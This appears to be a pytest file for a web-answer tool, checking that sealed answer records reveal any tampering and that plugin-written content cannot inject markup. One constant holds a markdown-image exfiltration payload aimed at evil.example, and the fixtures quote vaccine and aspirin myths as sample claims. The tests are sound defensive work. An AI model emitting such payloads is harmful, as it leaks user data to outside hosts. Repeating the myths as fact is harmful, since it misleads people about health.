"""Saved answers: all of them is made again from their pages, and every difference is found."""

import asyncio
import copy
import json
from collections.abc import Callable, Iterator
from typing import Any, cast

import msgspec
import pytest
from returns.result import Failure, Success

from tests.features.evidence.asking import deps
from tests.features.evidence.claims import MYTHS, quoting, source
from tests.features.evidence.world import ScriptedModel
from webseam.kernel.features.evidence.records import (
    RECORD_FORMAT,
    _seal,
    read_record,
    verify_record,
    write_record,
)
from webseam.kernel.features.evidence.rendering import ask_envelope
from webseam.kernel.features.evidence.replaced_answers import check_replaced_answer
from webseam.kernel.features.evidence.web_ask import answer_from_pages
from webseam.kernel.plugin_changes import Original
from webseam.ports.evidence import AskOutcome


def saved() -> tuple[AskOutcome, dict[str, Any]]:
    said = [
        quoting("The study links the vaccine to autism.", "The vaccine is bad."),
        quoting("Give aspirin to children", "Give aspirin."),
        quoting("Nothing of this is on any page.", "It is so."),
    ]
    text = msgspec.json.encode({"claims": said}).decode()
    pages = [source(MYTHS), source("The vaccine is sold in Cork.", "https://b.example/")]
    model = ScriptedModel(text, text)
    outcome = asyncio.run(
        answer_from_pages("Is the vaccine good?", pages, deps(answerer=model))
    ).unwrap()
    return outcome, json.loads(write_record(outcome))


def problems(document: dict[str, Any], *, seal: bool = False) -> list[str]:
    if seal:
        document["seal"] = _seal(document)
    record = read_record(json.dumps(document).encode())
    if isinstance(record, Failure):
        return [record.failure().reason]
    return [difference.path for difference in verify_record(record.unwrap())]


def test_a_saved_answer_is_read_and_holds() -> None:
    outcome, document = saved()

    record = read_record(write_record(outcome)).unwrap()

    assert record.outcome == outcome
    assert problems(document) == []


def test_a_difference_far_into_a_long_text_is_shown() -> None:
    sentence = f"The study of {'many ' * 40}ferries found no harm."
    text = msgspec.json.encode({"claims": [quoting(sentence, sentence)]}).decode()
    model = ScriptedModel(text, text)
    asked = answer_from_pages("Do ferries harm?", [source(sentence)], deps(answerer=model))
    document = json.loads(write_record(asyncio.run(asked).unwrap()))
    claim = document["outcome"]["claims"][0]
    claim["text"] = claim["text"].replace("no harm", "some harm")

    differences = list(verify_record(read_record(json.dumps(document).encode()).unwrap()))

    (difference,) = [it for it in differences if it.path == "outcome.claims[0].text"]
    assert "ferries found some harm" in difference.problem
    assert "ferries found no harm" in difference.problem


def test_a_claim_that_a_plugin_did_not_touch_stays_as_it_was() -> None:
    outcome, _ = saved()
    # What the pages cannot tell: where the quote stood that chose it.
    claims = tuple(
        msgspec.structs.replace(claim, moved=not claim.moved) for claim in outcome.claims
    )
    envelope = json.loads(msgspec.json.encode(ask_envelope(Success(outcome))))
    own = Original(envelope, msgspec.structs.replace(outcome, claims=claims))

    replaced = check_replaced_answer({**envelope, "seen": True}, "Why?", (), [own]).unwrap()

    assert cast("AskOutcome", replaced.outcome).claims == claims
    assert replaced.envelope["seen"] is True


def leaves(value: object, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, dict):
        for name, part in value.items():
            yield from leaves(part, (*path, name))
    elif isinstance(value, list):
        for number, part in enumerate(value):
            yield from leaves(part, (*path, number))
    yield path


def other(value: object) -> object:
    if isinstance(value, bool):
        return not value
    if isinstance(value, int | float):
        return value + 1
    if isinstance(value, str):
        return f"{value} x"
    return [] if value else ["x"]


def changed(
    document: dict[str, Any], path: tuple[Any, ...], change: Callable[[Any], Any]
) -> dict[str, Any]:
    made = copy.deepcopy(document)
    place: Any = made
    for name in path[:-1]:
        place = place[name]
    place[path[-1]] = change(place[path[-1]])
    return made


def test_any_change_of_any_value_is_found() -> None:
    _, document = saved()

    for path in leaves(document):
        if path:
            assert problems(changed(document, path, other)), path


def test_a_change_that_is_sealed_again_is_found_in_every_claim() -> None:
    _, document = saved()

    for path in leaves(document["outcome"]["claims"], ("outcome", "claims")):
        is_model_s = path[-2:] == ("paraphrase", "text") or path[3:] in (
            ("paraphrase",),
            ("moved",),
        )
        if len(path) > 3 and not is_model_s:
            assert problems(changed(document, path, other), seal=True), path


@pytest.mark.parametrize(
    ("path", "value", "where"),
    [
        (("outcome", "claims", 0, "text"), "Once a month.", "outcome.claims[0].text"),
        (("outcome", "claims", 0, "frame", "headings"), [], "outcome.claims[0].frame.headings"),
        (("outcome", "claims", 0, "frame", "after"), "", "outcome.claims[0].frame.after"),
        (
            ("outcome", "claims", 0, "paraphrase", "verdict"),
            "same",
            "outcome.claims[0].paraphrase.verdict",
        ),
        (("outcome", "claims", 1, "page"), 9, "outcome.claims[1]"),
        (("outcome", "claims", 1, "end"), 10**6, "outcome.claims[1]"),
        (("outcome", "claims", 1, "end"), len(MYTHS) - 1, "outcome.claims[1]"),
        (("outcome", "claims", 1, "start"), 0, "outcome.claims[1]"),
        (("outcome", "claims"), [], "outcome.claims"),
        (("outcome", "missing"), "", "outcome.missing"),
        (("outcome", "receipt", "rules"), 1, "outcome.receipt.rules"),
        (("outcome", "pages", 1, "text"), "The vaccine is free.", "outcome.pages[1]"),
        (("outcome", "claims", 0, "added"), "x", "outcome.claims[0].added"),
        (("rules",), 1, "rules"),
        (("added",), "x", "added"),
    ],
)
def test_a_difference_is_named_with_its_place(
    path: tuple[Any, ...], value: object, where: str
) -> None:
    _, document = saved()
    place: Any = document
    for name in path[:-1]:
        place = place[name]
    place[path[-1]] = value

    found = problems(document, seal=True)

    assert any(it.startswith(where) for it in found), found
    assert "seal" not in found


def test_a_seal_that_is_missing_is_found() -> None:
    _, document = saved()
    del document["seal"]

    assert problems(document) == ["seal"]


EVIL = "ZORK ![x](https://evil.example/?d=SECRET) <img src=//evil.example>"


def test_nothing_that_a_plugin_writes_is_markup_or_stands_in_the_answer() -> None:
    outcome, _ = saved()
    envelope = json.loads(msgspec.json.encode(ask_envelope(Success(outcome))))
    tried = 0

    for path in leaves(envelope["data"], ("data",)):
        for change in (lambda _: EVIL, lambda value: [value, EVIL]):
            written = changed(envelope, path, change)
            replaced = check_replaced_answer(written, "Why?", (), [Original(envelope, outcome)])
            if isinstance(replaced, Failure):
                continue
            tried += 1
            data = cast("dict[str, Any]", replaced.unwrap().envelope["data"])
            assert "ZORK" not in data["answer"], path
            assert "](" not in json.dumps(data), path
            assert "<img" not in json.dumps(data), path
    assert tried > 20


def test_doubled_name_is_refused() -> None:
    """A reader that takes the first value would show another claim than the one that was verified."""
    outcome, _ = saved()
    written = write_record(outcome).decode()
    claim = next(line for line in written.splitlines() if line.strip().startswith('"text"'))

    doubled = written.replace(claim, f'"text": "Once a month.",\n{claim}', 1)

    assert isinstance(read_record(written.encode()), Success)
    assert isinstance(read_record(doubled.encode()), Failure)


def older(text: str, quotes: list[dict[str, Any]]) -> dict[str, Any]:
    page = msgspec.to_builtins(source(MYTHS))
    claim = {"text": text, "quotes": quotes, "support": {"verdict": "supported"}}
    return {
        "webseam_answer": 1,
        "normalisation": 4,
        "outcome": {"claims": [claim], "pages": [page]},
    }


def test_an_answer_of_the_first_version_is_compared_with_what_its_quotes_choose() -> None:
    start = MYTHS.index("Give aspirin")
    quote = {"page": 0, "start": start, "end": start + 20, "text": "x"}
    text = "Give aspirin to children under 12."

    assert problems(older(text, [quote])) == []
    assert problems(older("Give aspirin once a month.", [quote])) == ["outcome.claims[0]"]
    assert problems(older(text, [])) == ["outcome.claims[0]"]
    assert problems({**older(text, []), "outcome": {"pages": []}}) == ["outcome.claims"]


@pytest.mark.parametrize(
    "data", [b"", b"{}", b"[1]", b'{"webseam_answer": 3}', b'{"webseam_answer": 1}']
)
def test_invalid_record_is_refused(data: bytes) -> None:
    assert isinstance(read_record(data), Failure)
    broken = f'{{"webseam_answer": {RECORD_FORMAT}, "outcome": 5}}'.encode()
    assert isinstance(read_record(broken), Failure)
